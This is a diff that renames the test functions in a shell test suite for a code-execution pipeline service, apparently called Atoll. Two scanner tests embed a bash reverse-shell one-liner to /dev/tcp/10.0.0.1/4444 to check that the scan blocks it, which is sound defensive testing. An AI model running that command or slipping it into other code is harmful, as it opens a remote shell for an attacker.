@@ -34,7 +34,7 @@ serve_registry() {
 	export ATOLL_PIP_INDEX="http://127.0.0.2:$port/simple" ATOLL_EGRESS_INTERNAL="127.0.0.2:$port"
 }
 
-a_wish_becomes_verified_code() {
+a_task_becomes_verified_code() {
 	pipeline '{"task":"Write a Python script that computes the mean and median of a list of numbers"}'
 	is "$(get .outcome) $(get .attempts)" "verified 1" "$body"
 	is "$(get .output)" "mean: 2.8
@@ -45,13 +45,13 @@ median: 3"
 	is "$(get '[.documents[].document.seq] | join(" ")')" "1 2 3 4 5"
 }
 
-what_is_not_understood_is_said() {
+a_task_that_is_not_understood_is_reported() {
 	pipeline '{"task":"brew a pot of coffee"}'
 	is "$(get .outcome)" not_understood
 	is "$(get .attempts)" 0
 }
 
-a_missing_package_is_installed_and_told() {
+a_missing_package_is_installed_and_reported() {
 	pipeline '{"task":"make it run","files":{"main.py":"import polars\nprint(polars.version)\n"}}'
 	is "$(get .outcome) $(get .attempts) $(get .output)" "plausible 2 1.2.3" "$body"
 	has "$(get '.evidence | join(";")')" "installed pip polars"
@@ -81,7 +81,7 @@ examples_that_cannot_be_met_fail_with_a_category() {
 	[ "$(get .attempts)" -le 2 ] || fail "too many attempts: $body"
 }
 
-one_that_passes_only_what_it_sees_is_not_verified() {
+a_program_that_passes_only_the_visible_examples_is_not_verified() {
 	pipeline '{"task":"fix it","mode":"heuristic","files":{"main.py":"print({\"1\": \"2\", \"2\": \"4\"}[input()])\n"},"examples":[
 		{"input":"1","expected":"2"},{"input":"2","expected":"4"},{"input":"3","expected":"6"}]}'
 	is "$(get .outcome)" failed "$body"
@@ -96,7 +96,7 @@ hits() {
 	api GET "/v1/pipelines/$(get .run_id)"
 	is "$(get '[.documents[] | select(.kind == "result") | .document.limits_hit[]] | unique | join(" ")')" "$1" "$body"
 }
-the_kernel_says_which_limit_was_met() {
+an_exceeded_limit_is_identified_by_kernel_evidence() {
 	hits time '{"task":"run it","files":{"main.py":"while True: pass\n"},"limits":{"run_ms":200},"budget":{"max_attempts":1}}'
 	hits memory '{"task":"run it","files":{"main.py":"x = bytearray(300 << 20)\nprint(len(x))\n"},"limits":{"memory":67108864},"budget":{"max_attempts":1}}'
 	hits output '{"task":"run it","files":{"main.py":"while True: print(\"x\" * 65536)\n"},"budget":{"max_attempts":1}}'
@@ -104,7 +104,7 @@ the_kernel_says_which_limit_was_met() {
 	hits "" '{"task":"run it","files":{"main.py":"raise SystemExit(\"out of memory, timed out\")\n"},"budget":{"max_attempts":1}}'
 }
 
-what_must_not_run_is_not_run() {
+code_that_the_scan_blocks_is_not_executed() {
 	pipeline '{"task":"run it","files":{"main.py":"import os\nos.system(\"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\")\n"}}'
 	is "$(get .outcome)" failed "$body"
 	api GET "/v1/pipelines/$(get .run_id)"
@@ -112,7 +112,7 @@ what_must_not_run_is_not_run() {
 		"scan policy block" "$body"
 }
 
-a_team_says_what_becomes_of_a_scans_findings() {
+the_scan_policy_of_a_team_decides_about_findings() {
 	wish='{"task":"run it","files":{"main.py":"import os\nprint(1) or os.path.exists(\"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\")\n"}}'
 	scanned='[.documents[] | select(.kind == "result") | .document | .phase, .scan_policy, (.scan | length), .scan[0].action] | join(" ")'
 	api GET /v1/pipelines/policy
@@ -142,7 +142,7 @@ scan block 1 block"
 	has "$out" "scan    block"
 }
 
-what_helped_before_is_shown_to_who_looks_for_a_mistake() {
+earlier_fixes_are_shown_to_the_debugger() {
 	wish='{"task":"repair the tally of pebbles","files":{"main.py":"def pebbles(a, b):\n    return a - b\n"},"examples":[
 		{"call":"pebbles(2, 3)","expected":"5"},{"call":"pebbles(0, 1)","expected":"1"},{"call":"pebbles(5, 5)","expected":"10"}]}'
 	recalled='[.documents[] | select(.kind == "diagnosis") | .document.evidence[] | select(.source == "memory").text] | length'
@@ -170,7 +170,7 @@ what_helped_before_is_shown_to_who_looks_for_a_mistake() {
 	is "$(get "$recalled")" 0
 }
 
-calls_are_tried_in_compiled_languages() {
+example_calls_are_tested_in_compiled_languages() {
 	for language in go rust java; do
 		case $language in
 		go) file=main.go code='package main\n\nimport \"fmt\"\n\nfunc twice(x []int) []int {\n\tfor i := range x {\n\t\tx[i] *= 2\n\t}\n\treturn x\n}\n\nfunc main() {\n\tfmt.Println(twice([]int{1}))\n}\n' call='twice([]int{1, 4})' ;;
@@ -185,7 +185,7 @@ calls_are_tried_in_compiled_languages() {
 	done
 }
 
-output_is_bounded_and_keeps_both_ends() {
+long_output_is_truncated_in_the_middle() {
 	pipeline '{"task":"run it","files":{"main.py":"print(\"first\")\nprint(\"x\" * 1000000)\nprint(\"last\")\n"}}'
 	is "$(get .outcome)" plausible
 	[ "$(get '.output | length')" -lt 60000 ] || fail "long"
@@ -194,7 +194,7 @@ output_is_bounded_and_keeps_both_ends() {
 	has "$(get .output)" "bytes left out"
 }
 
-calls_and_tests_are_tried_in_boxes_of_their_own() {
+example_calls_and_tests_run_in_separate_boxes() {
 	pipeline '{"task":"run it","files":{"main.py":"def twice(x):\n    return 2 * x\n"},
 		"examples":[{"call":"twice(4)","expected":"8"},{"call":"twice([1])","expected":"[1, 1]"}],
 		"tests":[{"path":"test_main.py","content":"from main import twice\n\ndef test_it():\n    assert twice(1) == 2\n"}]}'
@@ -238,14 +238,14 @@ pipeline_patiently() {
 	done
 	fail "$pipeline_id did not end: $code"
 }
-a_loop_without_an_end_is_searched() {
+an_endless_loop_is_repaired_by_the_search() {
 	pipeline_patiently '{"task":"fix it","limits":{"run_ms":1000},"files":{"main.py":"def f(n):\n    t = 0\n    while n != 0:\n        t += n\n        n -= 2\n    return t\n"},
 		"examples":[{"call":"f(3)","expected":"6"},{"call":"f(1)","expected":"1"},{"call":"f(4)","expected":"10"},{"call":"f(7)","expected":"28"}]}'
 	case $(get .outcome) in verified | plausible) ;; *) fail "$body" ;; esac
 	has "$(get '.artifact.files["main.py"]')" "n -= 1"
 }
 
-a_language_without_a_search_says_so() {
+a_language_without_repair_search_is_reported() {
 	command -v ruby >/dev/null || skip "no ruby"
 	pipeline '{"task":"fix it","language":"ruby","files":{"main.rb":"def add(a, b)\n  a - b\nend\n"},
 		"examples":[{"call":"add(2, 3)","expected":"5"},{"call":"add(1, 1)","expected":"2"}]}'
@@ -256,13 +256,13 @@ a_language_without_a_search_says_so() {
 	is "$(get '[.documents[] | select(.kind == "diagnosis") | .document.action.kind] | join(" ")')" stop "$body"
 }
 
-a_library_program_that_does_less_than_the_wish_is_not_verified() {
+a_library_program_that_covers_only_part_of_the_task_is_not_verified() {
 	pipeline '{"task":"download a file from a url"}'
 	is "$(get .outcome)" plausible "$body"
 	has "$(get '.evidence | join(";")')" "not shown: the task says 'file', and nothing of that was checked"
 }
 
-a_question_waits_for_its_answer() {
+a_pipeline_waits_for_the_answer_to_its_question() {
 	wish='{"task":"run it","files":{"main.py":"print(input().upper())\n"}}'
 	pipeline "$wish"
 	is "$(get .outcome) $(get .question.name)" "needs_input stdin" "$body"
@@ -286,7 +286,7 @@ a_question_waits_for_its_answer() {
 	is "$(get .outcome)" cancelled "$body"
 }
 
-events_tell_every_stage_in_order() {
+events_list_every_stage_in_order() {
 	curl -sS -N -X POST -H "X-API-Key: $key" -H 'Accept: application/x-ndjson' -H 'Content-Type: application/json' \
 		-d '{"task":"mean and median of 3, 1 and 2 in Python"}' "$url/v1/pipelines" >events
 	is "$(jq -r '.type' events | head -1)" run_started
@@ -302,7 +302,7 @@ events_tell_every_stage_in_order() {
 	is "$(grep -c '^data: ' sse) $(grep -m1 '^id: ' sse)" "$(wc -l <rest | tr -d ' ') id: 6"
 }
 
-one_that_runs_can_be_cancelled() {
+a_running_pipeline_can_be_cancelled() {
 	api POST /v1/pipelines '{"task":"run it","files":{"main.py":"import time\ntime.sleep(60)\n"}}'
 	is "$code" 202
 	id=$(get .id)
@@ -321,12 +321,12 @@ one_that_runs_can_be_cancelled() {
 	is "$code" 404
 }
 
-time_that_is_given_is_not_exceeded() {
+a_pipeline_does_not_exceed_its_time_budget() {
 	pipeline '{"task":"run it","files":{"main.py":"import time\ntime.sleep(60)\n"},"budget":{"max_wall_ms":300}}'
 	is "$(get .outcome) $(get .category)" "failed budget" "$body"
 }
 
-a_replay_of_an_attempt_says_whether_it_is_the_same() {
+a_replay_of_an_attempt_reports_whether_the_result_is_equal() {
 	pipeline '{"task":"run it","files":{"main.py":"import polars\nprint(polars.version)\n"}}'
 	id=$(get .run_id)
 	api POST "/v1/pipelines/$id/replay" '{}'
@@ -340,7 +340,7 @@ a_replay_of_an_attempt_says_whether_it_is_the_same() {
 	is "$(get .same)" false "$body"
 }
 
-a_race_takes_the_first_that_passes() {
+a_race_returns_the_first_program_that_passes() {
 	pipeline '{"task":"fix it","race":3,"files":{"main.py":"def add(a, b):\n    return a - b\n"},
 		"examples":[{"call":"add(2, 3)","expected":"5"},{"call":"add(0, 1)","expected":"1"}]}'
 	# Two examples: none could be held out.
@@ -348,7 +348,7 @@ a_race_takes_the_first_that_passes() {
 	has "$(get '.artifact.files["main.py"]')" "a + b"
 }
 
-the_same_key_makes_one_pipeline() {
+a_repeated_idempotency_key_creates_one_pipeline() {
 	for i in 1 2; do
 		api POST /v1/pipelines '{"task":"mean and median of 3, 1 and 2 in Python"}' -H 'Idempotency-Key: twice'
 		is "$code" 202
@@ -361,7 +361,7 @@ the_same_key_makes_one_pipeline() {
 	is "$(get .run_id) $(get .outcome)" "$first verified" "$body"
 }
 
-what_is_wrong_is_named() {
+an_invalid_pipeline_request_names_the_field() {
 	while IFS='	' read -r doc word; do
 		api POST /v1/pipelines "$doc"
 		is "$code" 400 "$doc: $body"
@@ -399,7 +399,7 @@ what_is_wrong_is_named() {
 	is "$code" 400
 }
 
-teams_see_their_own_only() {
+teams_see_only_their_own_pipelines() {
 	pipeline '{"task":"mean and median of 3, 1 and 2"}'
 	id=$(get .run_id)
 	api PUT /v1/teams/others '{}'
@@ -427,7 +427,7 @@ teams_see_their_own_only() {
 	has "$(get '[.items[].action] | unique | join(" ")')" pipeline.create
 }
 
-a_quota_of_executions_holds_for_pipelines() {
+the_quota_of_executions_applies_to_pipelines() {
 	api PUT /v1/teams/poor '{"executions_per_day":1}'
 	mine=$key
 	as_key "$("$ATOLL" key new poor --team poor --state "$state" --quiet)"
@@ -438,7 +438,7 @@ a_quota_of_executions_holds_for_pipelines() {
 	as_key "$mine"
 }
 
-figures_tell_how_well_they_do() {
+pipeline_metrics_show_success_rate_and_outcomes() {
 	pipeline '{"task":"mean and median of 3, 1 and 2"}'
 	api GET /v1/pipelines/metrics
 	[ "$(get '.success_rate > 0 and .runs > 0 and .attempts_per_success >= 1 and .stage_ms.executor > 0')" = true ] || fail "$body"
@@ -455,7 +455,7 @@ figures_tell_how_well_they_do() {
 	grep -q "$pattern" "$work/serve.log" || fail "no such line: $pattern"
 }
 
-the_command_line_tells_it_stage_by_stage() {
+atoll_pipeline_prints_each_stage() {
 	export ATOLL_HOST="$url" ATOLL_KEY="$key"
 	atoll pipeline run 'the mean and the median of 3, 1 and 2, in Python'
 	is "$status" 0 "$err"
